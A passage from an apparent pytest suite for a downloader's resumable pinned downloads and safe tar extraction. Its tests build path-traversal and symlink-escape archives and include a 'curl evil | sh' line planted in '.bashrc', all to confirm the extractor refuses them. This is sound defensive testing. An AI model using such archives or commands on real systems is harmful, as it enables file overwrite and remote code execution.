"""Offline tests for advtransfer.data.download: resumable pinned downloads and safe tar extraction.

All network traffic goes to a LocalFileServer on 127.0.0.1.
"""

from __future__ import annotations

import bz2
import email.message
import hashlib
import io
import os
import sys
import tarfile
import types
from collections.abc import Callable, Iterator
from pathlib import Path

import numpy as np
import pytest

sys.path.insert(0, str(Path(__file__).parent))  # tests/ holds the shared httpserver helper

from advtransfer.data import download as download_module
from advtransfer.data.download import download, safe_extract_tar, sha256_file
from advtransfer.errors import DataError
from httpserver import LocalFileServer

# ~1 MiB, deliberately not a multiple of the read chunk, with varied bytes so misplaced ranges change the hash.
PAYLOAD = bytes(range(256)) * 4096 + b"tail"
PAYLOAD_SHA = hashlib.sha256(PAYLOAD).hexdigest()
CHUNK = 64 * 1024
CUT = 300_000


@pytest.fixture
def server() -> Iterator[LocalFileServer]:
    with LocalFileServer() as srv:
        yield srv


def fetch(url: str, dest: Path, sha: str = PAYLOAD_SHA, **kwargs: object) -> Path:
    """download() with test defaults: no progress bar, small chunks, short timeout."""
    kwargs = {"progress": False, "chunk": CHUNK, "timeout": 5.0, **kwargs}
    return download(url, dest, sha, **kwargs)  # type: ignore[arg-type]


def part_of(dest: Path) -> Path:
    return dest.with_name(dest.name + ".part")


# ------------------------------------------------------------------------------------------------------ download


def test_sha256_file_matches_hashlib(tmp_path: Path) -> None:
    path = tmp_path / "f"
    path.write_bytes(PAYLOAD)
    assert sha256_file(path, chunk=1000) == PAYLOAD_SHA


def test_download_verifies_and_moves_into_place(server: LocalFileServer, tmp_path: Path) -> None:
    url = server.add("f.bin", PAYLOAD)
    dest = tmp_path / "new" / "dir" / "f.bin"  # parent directories are created

    assert fetch(url, dest, PAYLOAD_SHA.upper(), size=len(PAYLOAD)) == dest  # pinned sha is case-insensitive

    assert dest.read_bytes() == PAYLOAD
    assert not part_of(dest).exists()
    assert server.requests == [("/f.bin", None)]
    assert server.user_agents == ["advtransfer-downloader"]  # some hosts refuse Python's default client name


def test_interrupted_download_resumes_with_range(server: LocalFileServer, tmp_path: Path) -> None:
    url = server.add("f.bin", PAYLOAD)
    dest = tmp_path / "f.bin"
    server.cut_connection(after=CUT, times=1)

    with pytest.raises(DataError) as info:
        fetch(url, dest)
    assert str(info.value) == (
        f"Download of {url} was interrupted at {CUT} of {len(PAYLOAD)} bytes (the server closed the connection early). "
        f"The partial file is kept at {part_of(dest)}; re-run the same command to resume the download from there.")
    assert part_of(dest).read_bytes() == PAYLOAD[:CUT]
    assert not dest.exists()

    fetch(url, dest)

    assert dest.read_bytes() == PAYLOAD
    assert not part_of(dest).exists()
    assert server.requests == [("/f.bin", None), ("/f.bin", f"bytes={CUT}-")]
    assert server.body_bytes_sent == [CUT, len(PAYLOAD) - CUT]  # the resume fetched only the remainder


def test_resume_survives_repeated_interruptions(server: LocalFileServer, tmp_path: Path) -> None:
    url = server.add("f.bin", PAYLOAD)
    dest = tmp_path / "f.bin"
    server.cut_connection(after=CUT, times=2)

    for expected_have in (CUT, 2 * CUT):
        with pytest.raises(DataError, match=f"interrupted at {expected_have} of"):
            fetch(url, dest)
    fetch(url, dest)

    assert dest.read_bytes() == PAYLOAD
    assert [r for _, r in server.requests] == [None, f"bytes={CUT}-", f"bytes={2 * CUT}-"]
    assert sum(server.body_bytes_sent) == len(PAYLOAD)


def test_server_without_range_support_restarts_from_zero(tmp_path: Path) -> None:
    with LocalFileServer(range_support=False) as srv:
        url = srv.add("f.bin", PAYLOAD)
        dest = tmp_path / "f.bin"
        # Garbage that would corrupt the result if the full 200 body were appended to it.
        part_of(dest).write_bytes(b"x" * 5000)

        fetch(url, dest)

        assert dest.read_bytes() == PAYLOAD
        assert srv.requests == [("/f.bin", "bytes=5000-")]
        assert srv.body_bytes_sent == [len(PAYLOAD)]


def test_checksum_mismatch_removes_part_and_creates_nothing(server: LocalFileServer, tmp_path: Path) -> None:
    url = server.add("f.bin", PAYLOAD)
    dest = tmp_path / "f.bin"
    wrong = hashlib.sha256(b"something else").hexdigest()

    with pytest.raises(DataError) as info:
        fetch(url, dest, wrong)

    message = str(info.value)
    for fragment in (url, f"expected sha256 {wrong}", f"got {PAYLOAD_SHA}", "removed", "re-run the same command"):
        assert fragment in message
    assert not part_of(dest).exists()
    assert not dest.exists()


def test_verified_file_returns_without_any_request(server: LocalFileServer, tmp_path: Path) -> None:
    url = server.add("f.bin", PAYLOAD)
    dest = tmp_path / "f.bin"
    dest.write_bytes(PAYLOAD)

    assert fetch(url, dest) == dest
    assert server.requests == []


def test_stale_destination_is_replaced(server: LocalFileServer, tmp_path: Path) -> None:
    url = server.add("f.bin", PAYLOAD)
    dest = tmp_path / "f.bin"
    dest.write_bytes(b"an older version")

    fetch(url, dest)

    assert dest.read_bytes() == PAYLOAD


def test_complete_part_file_is_verified_after_416(server: LocalFileServer, tmp_path: Path) -> None:
    url = server.add("f.bin", PAYLOAD)
    dest = tmp_path / "f.bin"
    part_of(dest).write_bytes(PAYLOAD)  # e.g. killed between the last byte and the rename

    fetch(url, dest)  # size unknown, so it has to ask

    assert dest.read_bytes() == PAYLOAD
    assert server.requests == [("/f.bin", f"bytes={len(PAYLOAD)}-")]
    assert server.body_bytes_sent == [0]


def test_complete_part_file_with_pinned_size_needs_no_request(server: LocalFileServer, tmp_path: Path) -> None:
    url = server.add("f.bin", PAYLOAD)
    dest = tmp_path / "f.bin"
    part_of(dest).write_bytes(PAYLOAD)

    fetch(url, dest, size=len(PAYLOAD))

    assert dest.read_bytes() == PAYLOAD
    assert server.requests == []


def test_size_announced_by_server_differs_from_pin(server: LocalFileServer, tmp_path: Path) -> None:
    url = server.add("f.bin", PAYLOAD)
    dest = tmp_path / "f.bin"

    with pytest.raises(DataError, match=f"is {len(PAYLOAD)} bytes, but the pinned size is {len(PAYLOAD) + 1}"):
        fetch(url, dest, size=len(PAYLOAD) + 1)

    assert not dest.exists()
    assert not part_of(dest).exists()


def test_finished_size_differs_from_pin(tmp_path: Path) -> None:
    # No Content-Length, so the size mismatch is only known once the body has ended.
    with LocalFileServer(content_length=False) as srv:
        url = srv.add("f.bin", PAYLOAD[:-10])
        dest = tmp_path / "f.bin"

        with pytest.raises(DataError) as info:
            fetch(url, dest, size=len(PAYLOAD))

    message = str(info.value)
    assert f"expected {len(PAYLOAD)} bytes, got {len(PAYLOAD) - 10} bytes" in message
    assert "removed" in message
    assert not dest.exists()
    assert not part_of(dest).exists()


@pytest.mark.parametrize("url", ["file:///etc/passwd", "ftp://example.org/f.bin", "f.bin", "javascript:x"])
def test_non_http_url_is_refused(url: str, tmp_path: Path) -> None:
    dest = tmp_path / "f.bin"
    with pytest.raises(DataError, match=r"only http:// and https:// URLs are supported") as info:
        fetch(url, dest)
    assert str(dest) in str(info.value)
    assert not dest.exists() and not part_of(dest).exists()


def test_http_error_is_a_data_error(server: LocalFileServer, tmp_path: Path) -> None:
    with pytest.raises(DataError, match=r"HTTP 404"):
        fetch(server.url("missing.bin"), tmp_path / "f.bin")


def test_unreachable_server_is_a_data_error(tmp_path: Path) -> None:
    with LocalFileServer() as srv:
        url = srv.add("f.bin", PAYLOAD)
    # Stopped: the port is closed now, so the connection is refused.
    with pytest.raises(DataError, match=r"Could not download .*re-run the same command"):
        fetch(url, tmp_path / "f.bin")


def test_malformed_pinned_sha_is_a_bug_not_a_user_error(server: LocalFileServer, tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="sha256"):
        fetch(server.add("f.bin", PAYLOAD), tmp_path / "f.bin", "abc")


def test_progress_bar_goes_to_stderr_only_when_enabled(
    server: LocalFileServer, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    url = server.add("f.bin", PAYLOAD)
    fetch(url, tmp_path / "quiet.bin", progress=False)
    assert capsys.readouterr().err == ""

    fetch(url, tmp_path / "loud.bin", progress=True)
    captured = capsys.readouterr()
    assert "loud.bin" in captured.err and captured.out == ""


# ---------------------------------------------------------------------------------------------- tar helpers


def tar_bytes(*entries: tuple[tarfile.TarInfo, bytes | None], mode: str = "w") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode) as tar:
        for info, data in entries:
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return buf.getvalue()


def file_(name: str, data: bytes) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    info.mode = 0o644
    return info, data


def entry(name: str, kind: bytes, linkname: str = "") -> tuple[tarfile.TarInfo, None]:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = linkname
    info.mode = 0o755 if kind == tarfile.DIRTYPE else 0o644
    return info, None


def dir_(name: str) -> tuple[tarfile.TarInfo, None]:
    return entry(name, tarfile.DIRTYPE)


def symlink(name: str, to: str) -> tuple[tarfile.TarInfo, None]:
    return entry(name, tarfile.SYMTYPE, to)


def hardlink(name: str, to: str) -> tuple[tarfile.TarInfo, None]:
    return entry(name, tarfile.LNKTYPE, to)


def snapshot(root: Path) -> set[str]:
    """Every path under root (links not followed), to prove that a refused extraction wrote nothing."""
    return {str(p.relative_to(root)) for p in root.rglob("*")}


GOOD_TREE = (
    dir_("pkg"),
    file_("pkg/a.txt", b"alpha"),
    dir_("pkg/sub"),
    file_("pkg/sub/b.bin", bytes(range(256))),
    symlink("pkg/sub/link", "../a.txt"),
    hardlink("pkg/hard", "pkg/a.txt"),
    file_("top.txt", b"top"),
)


def assert_good_tree(target: Path) -> None:
    assert (target / "pkg" / "a.txt").read_bytes() == b"alpha"
    assert (target / "pkg" / "sub" / "b.bin").read_bytes() == bytes(range(256))
    link = target / "pkg" / "sub" / "link"
    assert link.is_symlink() and os.readlink(link) == "../a.txt" and link.read_bytes() == b"alpha"
    assert (target / "pkg" / "hard").read_bytes() == b"alpha"
    assert (target / "top.txt").read_bytes() == b"top"


# --------------------------------------------------------------------------------------------- safe_extract_tar


@pytest.mark.parametrize("mode", ["w", "w:gz", "w:bz2", "w:xz"])
def test_extracts_files_dirs_and_safe_links(tmp_path: Path, mode: str) -> None:
    archive = tmp_path / "good.tar"
    archive.write_bytes(tar_bytes(*GOOD_TREE, mode=mode))
    target = tmp_path / "data" / "out"

    assert safe_extract_tar(archive, target) == target

    assert_good_tree(target)
    assert snapshot(tmp_path / "data") == {"out"} | {f"out/{p}" for p in snapshot(target)}  # no staging left
    assert oct(target.stat().st_mode & 0o777) != oct(0o700)  # the staging dir's mode is not mkdtemp's 0700


def test_dot_slash_names_are_fine(tmp_path: Path) -> None:
    archive = tmp_path / "a.tar"
    archive.write_bytes(tar_bytes(dir_("."), dir_("./d"), file_("./d/f", b"x"), symlink("./l", "d/f")))
    target = tmp_path / "out"

    safe_extract_tar(archive, target)

    assert (target / "d" / "f").read_bytes() == b"x"
    assert (target / "l").read_bytes() == b"x"


def test_existing_target_receives_entries(tmp_path: Path) -> None:
    archive = tmp_path / "good.tar"
    archive.write_bytes(tar_bytes(*GOOD_TREE))
    target = tmp_path / "out"
    target.mkdir()
    (target / "keep.txt").write_text("mine")

    safe_extract_tar(archive, target)

    assert_good_tree(target)
    assert (target / "keep.txt").read_text() == "mine"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_existing_entry_in_target_is_not_overwritten(tmp_path: Path) -> None:
    archive = tmp_path / "good.tar"
    archive.write_bytes(tar_bytes(*GOOD_TREE))
    target = tmp_path / "out"
    target.mkdir()
    (target / "top.txt").write_text("mine")
    before = snapshot(tmp_path)

    with pytest.raises(DataError, match=r"top\.txt already exists.*Nothing was extracted"):
        safe_extract_tar(archive, target)

    assert snapshot(tmp_path) == before  # not even "pkg" was moved in; staging removed
    assert (target / "top.txt").read_text() == "mine"


# Each case: archive entries (with {outside} = an absolute directory outside the target), and a message fragment.
MaliciousCase = Callable[[str], tuple[tuple[tarfile.TarInfo, bytes | None], ...]]
MALICIOUS: dict[str, tuple[MaliciousCase, str]] = {
    "dotdot": (lambda out: (file_("ok.txt", b"ok"), file_("../evil", b"pwned")), "contains '..'"),
    "dotdot-nested": (lambda out: (dir_("a"), file_("a/../../evil", b"pwned")), "contains '..'"),
    "absolute": (lambda out: (file_(f"{out}/evil", b"pwned"),), "absolute path"),
    "symlink-outside": (lambda out: (symlink("link", "../evil"),), "points outside the target"),
    "symlink-absolute": (lambda out: (symlink("link", f"{out}/evil"),), "absolute path"),
    "write-through-symlink": (
        lambda out: (symlink("esc", ".."), file_("esc/evil", b"pwned")),
        "points outside the target",
    ),
    # Each link is inside on its own; lexically "x/y/up/.." is "x/y", but on disk up -> target, so .. escapes.
    "symlink-chain": (
        lambda out: (
            dir_("x"),
            dir_("x/y"),
            symlink("x/y/up", "../.."),
            symlink("t", "x/y/up/.."),
            file_("t/evil", b"p"),
        ),
        "points outside the target",
    ),
    "under-inner-symlink": (
        lambda out: (dir_("sub"), symlink("d", "sub"), symlink("d/s", ".."), file_("ok", b"ok")),
        "under the symlink 'd'",
    ),
    "symlink-loop": (lambda out: (symlink("a", "b"), symlink("b", "a")), "symlink loop"),
    "hardlink-outside": (lambda out: (hardlink("hl", "../secret"),), "hard link to '../secret'"),
    "hardlink-absolute": (lambda out: (hardlink("hl", f"{out}/secret"),), "absolute path"),
    "chardev": (lambda out: (entry("dev", tarfile.CHRTYPE),), "device file, FIFO"),
    "fifo": (lambda out: (entry("pipe", tarfile.FIFOTYPE),), "device file, FIFO"),
    "file-as-target-itself": (lambda out: (file_(".", b"x"),), "replace the target directory"),
}


@pytest.mark.parametrize("target_exists", [False, True], ids=["new-target", "empty-target"])
@pytest.mark.parametrize("case", sorted(MALICIOUS))
def test_unsafe_archive_is_rejected_and_nothing_is_written(tmp_path: Path, case: str, target_exists: bool) -> None:
    make_entries, fragment = MALICIOUS[case]
    work = tmp_path / "work"  # the target's parent: "../x" from the target lands here
    work.mkdir()
    (work / "secret").write_text("do not touch")
    target = work / "out"
    if target_exists:
        target.mkdir()
    archive = tmp_path / "evil.tar"
    archive.write_bytes(tar_bytes(*make_entries(str(work))))
    before = snapshot(tmp_path)

    with pytest.raises(DataError) as info:
        safe_extract_tar(archive, target)

    message = str(info.value)
    assert fragment in message
    assert str(archive) in message and "nothing was extracted" in message
    assert snapshot(tmp_path) == before  # no evil file, no partial target, no staging dir left behind
    assert (work / "secret").read_text() == "do not touch" and (work / "secret").stat().st_nlink == 1


@pytest.mark.skipif(not hasattr(tarfile, "data_filter"), reason="tarfile without extraction filters")
def test_data_filter_is_a_second_line_of_defence(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(download_module, "_validate_members", lambda *args: None)  # pretend validation missed it
    archive = tmp_path / "evil.tar"
    archive.write_bytes(tar_bytes(file_("ok.txt", b"ok"), symlink("link", "../evil")))
    target = tmp_path / "work" / "out"
    target.parent.mkdir()
    before = snapshot(tmp_path)

    with pytest.raises(DataError) as info:
        safe_extract_tar(archive, target)

    assert str(info.value).startswith(f"Refusing to extract {archive}: member 'link' was refused by tarfile's data "
                                      "filter: ")
    assert str(info.value).endswith(f"so nothing was extracted to {target}. Delete {archive} and download it again; "
                                    "if this persists, the file at its source is broken or has been tampered with.")
    assert snapshot(tmp_path) == before  # ok.txt was already extracted to staging, which was removed


def corrupt_archives() -> dict[str, bytes]:
    good_gz = tar_bytes(*GOOD_TREE, mode="w:gz")
    big_plain = tar_bytes(file_("small", b"s"), file_("big", os.urandom(50_000)))
    return {
        "truncated-gz": good_gz[: len(good_gz) // 2],
        "garbage-gz": good_gz[:10] + b"\x00" * 200,
        "not-a-tar": b"<html>404 Not Found</html>" * 40,
        "empty": b"",
        # Every header is intact; only the last member's data is cut short.
        "truncated-data": big_plain[: 512 * 4 + 20_000],
    }


@pytest.mark.parametrize("case", sorted(corrupt_archives()))
def test_corrupt_archive_is_a_data_error(tmp_path: Path, case: str) -> None:
    archive = tmp_path / "bad.tar.gz"
    archive.write_bytes(corrupt_archives()[case])
    target = tmp_path / "out"
    before = snapshot(tmp_path)

    with pytest.raises(DataError) as info:
        safe_extract_tar(archive, target)

    message = str(info.value)
    assert "corrupt, truncated or not a tar archive" in message
    assert f"Delete {archive}" in message and "download it again" in message
    assert snapshot(tmp_path) == before


def test_missing_archive_is_a_data_error(tmp_path: Path) -> None:
    with pytest.raises(DataError, match="does not exist"):
        safe_extract_tar(tmp_path / "nope.tar", tmp_path / "out")


# ------------------------------------------------------------------------------------------------- end to end


def test_end_to_end_download_then_extract(server: LocalFileServer, tmp_path: Path) -> None:
    blob = tar_bytes(*GOOD_TREE, mode="w:gz")
    url = server.add("dataset.tar.gz", blob)
    server.cut_connection(after=len(blob) // 3)  # and a flaky link for good measure
    dest = tmp_path / "downloads" / "dataset.tar.gz"
    sha = hashlib.sha256(blob).hexdigest()

    with pytest.raises(DataError, match="re-run the same command"):
        fetch(url, dest, sha, size=len(blob))
    archive = fetch(url, dest, sha, size=len(blob))
    target = safe_extract_tar(archive, tmp_path / "data" / "dataset")

    assert_good_tree(target)
    assert server.requests[-1] == ("/dataset.tar.gz", f"bytes={len(blob) // 3}-")


def test_end_to_end_malicious_archive_writes_nothing_outside(server: LocalFileServer, tmp_path: Path) -> None:
    work = tmp_path / "work"
    blob = tar_bytes(
        file_("readme.txt", b"innocent"),
        symlink("cfg", "../../.."),  # then write through it
        file_("cfg/.bashrc", b"curl evil | sh"),
        file_("../../escaped.txt", b"pwned"),
        mode="w:gz",
    )
    url = server.add("evil.tar.gz", blob)
    archive = fetch(url, tmp_path / "downloads" / "evil.tar.gz", hashlib.sha256(blob).hexdigest())
    before = snapshot(tmp_path)

    with pytest.raises(DataError, match=r"Refusing to extract .*evil\.tar\.gz.*nothing was extracted"):
        safe_extract_tar(archive, work / "data" / "evil")

    assert snapshot(tmp_path) == before
    assert not (tmp_path / "escaped.txt").exists() and not (tmp_path.parent / "escaped.txt").exists()


# ------------------------------------------------------------------------------------------- messages, limits

@pytest.mark.parametrize("total, progress", [(1000, "300 of 1000 bytes"), (None, "300 bytes (total size unknown)")])
def test_interrupted_message_in_full(tmp_path: Path, total: int | None, progress: str) -> None:
    """What a broken connection says (the total is unknown when the server sent no Content-Length and no size is
    pinned: then only a reset or a timeout, not a clean close, can be told from the end of the file)."""
    part = tmp_path / "f.bin.part"
    err = download_module._interrupted("http://h/f.bin", part, 300, total, "timed out")
    assert str(err) == (f"Download of http://h/f.bin was interrupted at {progress} (timed out). The partial file is "
                        f"kept at {part}; re-run the same command to resume the download from there.")


def _with_content_range(value: str | None) -> object:
    headers = email.message.Message()
    if value is not None:
        headers["Content-Range"] = value
    return types.SimpleNamespace(headers=headers)


@pytest.mark.parametrize("value, start", [
    ("bytes 300000-1048579/1048580", 300000), ("bytes 0-9/*", 0), (None, None), ("", None), ("items 5-9/10", None),
    ("bytes */1048580", None), ("bytes -5/10", None), ("bytes", None),
])
def test_range_start_of_a_206(value: str | None, start: int | None) -> None:
    """The first byte of a 206 body, from Content-Range (RFC 9110: "bytes START-END/TOTAL"); None for anything
    else, which makes a resume start over rather than append bytes at the wrong place."""
    assert download_module._range_start(_with_content_range(value)) == start


def test_corrupt_archive_message_in_full(tmp_path: Path) -> None:
    archive = tmp_path / "bad.tar.gz"
    archive.write_bytes(corrupt_archives()["not-a-tar"])
    with pytest.raises(DataError) as info:
        safe_extract_tar(archive, tmp_path / "out")
    assert str(info.value) == (
        f"Cannot extract {archive}: it is corrupt, truncated or not a tar archive (file could not be opened "
        f"successfully). Nothing was extracted. Delete {archive} and re-run the same command to download it again.")


@pytest.mark.parametrize("err, line", [
    (ValueError("bad header:"), "bad header"),            # tarfile's "...:\n- method gz: ..." lists end in ':'
    (ValueError("first\nsecond"), "first"),
    (ValueError("  spaced X  "), "spaced X"),
    (ValueError(), "ValueError()"),                         # no message: the exception's repr
])
def test_first_line_of_an_error(err: BaseException, line: str) -> None:
    assert download_module._first_line(err) == line


@pytest.mark.parametrize("entries, why", [
    ((symlink("l", "./.."),), "is a symlink to './..', which points outside the target directory"),
    ((symlink("l", "sub//../.."),), "is a symlink to 'sub//../..', which points outside the target directory"),
    ((symlink("l", "a/x"), symlink("a", "/etc")), "is a symlink to 'a/x', which goes through a symlink to the "
                                                   "absolute path '/etc'"),
])
def test_unsafe_member_message_in_full(tmp_path: Path, entries, why: str) -> None:
    archive, target = tmp_path / "evil.tar", tmp_path / "out"
    archive.write_bytes(tar_bytes(*entries))
    with pytest.raises(DataError) as info:
        safe_extract_tar(archive, target)
    assert str(info.value) == (
        f"Refusing to extract {archive}: member 'l' {why}. The archive is unsafe or corrupt, so nothing was extracted "
        f"to {target}. Delete {archive} and download it again; if this persists, the file at its source is broken or "
        "has been tampered with.")


def _chain(hops: int) -> tuple:
    """Links l0 -> l1 -> ... -> a real directory, so that reaching the directory from ``via`` takes ``hops`` hops."""
    links = [symlink(f"l{i}", f"l{i + 1}") for i in range(hops - 1)] + [symlink(f"l{hops - 1}", "d")]
    return (dir_("d"), *reversed(links), symlink("via", "l0"))


def test_symlink_hops_are_capped_at_forty(tmp_path: Path) -> None:
    """A link whose target takes 40 hops to resolve (the kernel's own limit) is kept; one more is a loop."""
    cap = download_module._MAX_SYMLINK_HOPS
    assert cap == 40
    archive = tmp_path / "ok.tar"
    archive.write_bytes(tar_bytes(*_chain(cap)))  # via's target l0 -> l1 -> ... -> d: 40 hops
    safe_extract_tar(archive, tmp_path / "ok")
    assert (tmp_path / "ok" / "via").resolve() == (tmp_path / "ok" / "d").resolve()
    archive.write_bytes(tar_bytes(*_chain(cap + 1)))
    with pytest.raises(DataError) as info:
        safe_extract_tar(archive, tmp_path / "too-many")
    assert str(info.value) == (
        f"Refusing to extract {archive}: member 'via' is a symlink to 'l0', which is part of a symlink loop. The "
        f"archive is unsafe or corrupt, so nothing was extracted to {tmp_path / 'too-many'}. Delete {archive} and "
        "download it again; if this persists, the file at its source is broken or has been tampered with.")


def test_checksum_and_announced_size_messages_in_full(server: LocalFileServer, tmp_path: Path) -> None:
    url = server.add("f.bin", PAYLOAD)
    dest, wrong = tmp_path / "f.bin", hashlib.sha256(b"something else").hexdigest()
    with pytest.raises(DataError) as info:
        fetch(url, dest, wrong)
    assert str(info.value) == (
        f"Checksum mismatch for {url}: expected sha256 {wrong}, got {PAYLOAD_SHA}. The downloaded file cannot be "
        f"trusted and was removed ({part_of(dest)}); re-run the same command to download it again. If this keeps "
        "happening, the file at that URL has changed: check the URL or report it.")
    with pytest.raises(DataError) as info:
        fetch(url, dest, size=len(PAYLOAD) + 1)
    assert str(info.value) == (
        f"The server says {url} is {len(PAYLOAD)} bytes, but the pinned size is {len(PAYLOAD) + 1} bytes: the file at "
        f"that URL has changed or the URL is wrong. Nothing was kept ({part_of(dest)} removed). Check the URL; if it "
        "is right, the upstream file was replaced and the kit's pinned size and sha256 need updating.")


def test_progress_bar_counts_bytes_in_binary_units_from_the_resumed_offset(
    server: LocalFileServer, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The bar of a resumed download starts at the bytes already there and ends at the whole file, in KiB/MiB:
    1,024,000 bytes are 0.98 MiB (in decimal units 1.02 M, with a divisor of 1025 999 k)."""
    payload = PAYLOAD[:1_024_000]
    url = server.add("g.bin", payload)
    dest = tmp_path / "g.bin"
    server.cut_connection(after=CUT, times=1)
    with pytest.raises(DataError):
        fetch(url, dest, hashlib.sha256(payload).hexdigest(), progress=False)
    fetch(url, dest, hashlib.sha256(payload).hexdigest(), progress=True)
    final = capsys.readouterr().err.replace("\r", "\n").strip().splitlines()[-1]
    assert final.startswith("g.bin: 100%|") and " 0.98M/0.98M [" in final, final
    assert "B/s]" in final


@pytest.mark.parametrize("value, length, offset, total", [
    ("bytes 10-19/100", "10", 10, 100), ("bytes 10-19/*", "10", 10, None), (None, "10", 10, None),
])
def test_remote_total_of_a_206_is_the_content_range_total(value, length, offset, total) -> None:
    """A 206's total is the one in Content-Range (or unknown), never offset + Content-Length of the part."""
    response = _with_content_range(value)
    response.headers["Content-Length"] = length
    response.status = 206
    assert download_module._remote_total(response, offset) == total


def test_extraction_creates_missing_parent_folders(tmp_path: Path) -> None:
    archive = tmp_path / "good.tar"
    archive.write_bytes(tar_bytes(*GOOD_TREE))
    target = tmp_path / "not" / "yet" / "there"
    safe_extract_tar(archive, target)
    assert (target / "pkg" / "a.txt").read_bytes() == b"alpha"


def test_move_into_place_refusals_in_full(tmp_path: Path) -> None:
    archive = tmp_path / "good.tar"
    archive.write_bytes(tar_bytes(*GOOD_TREE))
    file_target = tmp_path / "a-file"
    file_target.write_text("x")
    with pytest.raises(DataError) as info:
        safe_extract_tar(archive, file_target)
    assert str(info.value) == (f"Cannot extract {archive}: {file_target} exists and is not a directory. Nothing was "
                               "extracted. Remove it and re-run the same command.")
    for clashing, more in ((["top.txt"], ""), (["pkg", "top.txt"], " (and 1 more)")):
        target = tmp_path / f"out{len(clashing)}"
        target.mkdir()
        for name in clashing:
            (target / name).write_text("mine")
        with pytest.raises(DataError) as info:
            safe_extract_tar(archive, target)
        assert str(info.value) == (
            f"Cannot extract {archive} into {target}: {target / clashing[0]} already exists{more}. Nothing was "
            f"extracted. Remove it (or all of {target}) and re-run the same command.")


def test_stalled_connection_times_out_keeps_the_part_and_resumes(server: LocalFileServer, tmp_path: Path) -> None:
    url = server.add("f.bin", PAYLOAD)
    dest = tmp_path / "f.bin"
    server.stall = (CHUNK, 3.0)
    with pytest.raises(DataError) as info:
        fetch(url, dest, timeout=0.5)
    assert str(info.value) == (
        f"Download of {url} was interrupted at {CHUNK} of {len(PAYLOAD)} bytes (timed out). The partial file is kept "
        f"at {part_of(dest)}; re-run the same command to resume the download from there.")
    assert part_of(dest).read_bytes() == PAYLOAD[:CHUNK]
    server.stall = None
    assert fetch(url, dest) == dest and dest.read_bytes() == PAYLOAD
    assert server.requests[-1] == ("/f.bin", f"bytes={CHUNK}-")


def test_resume_answered_with_a_wrong_range_removes_the_part(server: LocalFileServer, tmp_path: Path) -> None:
    url = server.add("f.bin", PAYLOAD)
    dest = tmp_path / "f.bin"
    part_of(dest).write_bytes(PAYLOAD[:CUT])
    server.range_shift = 1
    with pytest.raises(DataError) as info:
        fetch(url, dest)
    assert str(info.value) == (
        f"The server for {url} answered the resume request with an unexpected byte range, so the partial file "
        f"{part_of(dest)} was removed. Re-run the same command to download it from the start.")
    assert not part_of(dest).exists()


def test_part_longer_than_the_pinned_size_is_downloaded_again_from_zero(server: LocalFileServer,
                                                                         tmp_path: Path) -> None:
    url = server.add("f.bin", PAYLOAD)
    dest = tmp_path / "f.bin"
    part_of(dest).write_bytes(b"x" * (len(PAYLOAD) + 10))  # cannot be a prefix of the file
    assert fetch(url, dest, size=len(PAYLOAD)) == dest and dest.read_bytes() == PAYLOAD
    assert server.requests == [("/f.bin", None)]


def test_http_errors_in_full_also_on_a_resume(server: LocalFileServer, tmp_path: Path) -> None:
    url = server.url("missing.bin")
    for name in ("new.bin", "resumed.bin"):
        dest = tmp_path / name
        if name == "resumed.bin":
            part_of(dest).write_bytes(b"x" * 10)  # a 404 to a ranged request is an error too, not "complete"
        with pytest.raises(DataError) as info:
            fetch(url, dest)
        assert str(info.value) == (
            f"Downloading {url} failed: HTTP 404 Not Found. Check that the URL is still valid and re-run the same "
            f"command, or get the file yourself and place it at {dest}.")


@pytest.mark.parametrize("scheme", ["http", "https", "HTTPS"])
def test_unreachable_server_message_in_full_for_http_and_https(scheme: str, tmp_path: Path) -> None:
    with LocalFileServer() as srv:
        url = srv.add("f.bin", PAYLOAD).replace("http", scheme, 1)
    dest = tmp_path / "f.bin"
    with pytest.raises(DataError) as info:  # stopped: the port is closed, the connection refused
        fetch(url, dest)
    assert str(info.value) == (
        f"Could not download {url}: [Errno 111] Connection refused. Check your network connection (and proxy "
        f"settings) and re-run the same command, or get the file yourself and place it at {dest}.")


@pytest.mark.parametrize("entries, member, why", [
    ((entry("pipe", tarfile.FIFOTYPE),), "pipe",
     "is a device file, FIFO or other special file (only files, directories and links)"),
    ((file_("/abs/evil", b"x"),), "/abs/evil", "has an absolute path"),
    ((file_("a/../../evil", b"x"),), "a/../../evil", "contains '..', which would write outside the target directory"),
    ((file_(".", b"x"),), ".", "would replace the target directory itself"),
    ((hardlink("hl", "../secret"),), "hl", "is a hard link to '../secret', which points outside the target directory"),
    ((hardlink("hl", "later.txt"), file_("later.txt", b"x")), "hl",
     "is a hard link to 'later.txt', which is not an earlier member of the archive (the link points nowhere)"),
    ((dir_("a"), dir_("a/b"), symlink("a/b/l", "."), file_("a/b/l/f", b"x")), "a/b/l/f",
     "is placed under the symlink 'a/b/l'"),
    ((dir_("a"), dir_("a/b"), symlink("a/b/l", "."), file_("a//b/./l/f", b"x")), "a//b/./l/f",
     "is placed under the symlink 'a/b/l'"),  # the same place, spelt with empty and '.' parts
])
def test_unsafe_member_reasons_in_full(tmp_path: Path, entries, member: str, why: str) -> None:
    archive, target = tmp_path / "evil.tar", tmp_path / "out"
    archive.write_bytes(tar_bytes(*entries))
    with pytest.raises(DataError) as info:
        safe_extract_tar(archive, target)
    assert str(info.value).startswith(f"Refusing to extract {archive}: member {member!r} {why}. The archive is unsafe")


def test_bz2_archive_broken_after_its_first_block_is_a_data_error(tmp_path: Path) -> None:
    """The headers of the first block read fine; the stream breaks later, while tarfile reads the member list."""
    noise = np.random.default_rng(0).bytes(300_000)  # incompressible: several 100 kB bz2 blocks
    raw = bz2.compress(tar_bytes(*(file_(f"f{i}", noise) for i in range(8))), 1)
    cut = int(len(raw) * 0.8)
    archive = tmp_path / "broken.tar.bz2"
    archive.write_bytes(raw[:cut] + bytes(300) + raw[cut + 300:])
    before = snapshot(tmp_path)
    with pytest.raises(DataError) as info:
        safe_extract_tar(archive, tmp_path / "out")
    assert str(info.value) == (
